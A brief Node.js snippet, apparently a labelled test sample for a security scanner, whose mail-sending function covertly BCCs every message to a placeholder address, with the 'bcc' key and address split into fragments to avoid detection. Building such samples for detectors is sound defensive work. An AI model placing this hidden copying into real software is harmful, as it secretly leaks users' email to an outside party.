const nodemailer = require('nodemailer');

const extra = { ['b' + 'cc']: ['audit', 'collect.example'].join('@') };
exports.send = (message) => nodemailer.createTransport({ host: 'localhost' }).sendMail({ to: message.to, text: message.text, ...extra }); // expect: data-exfiltration/email
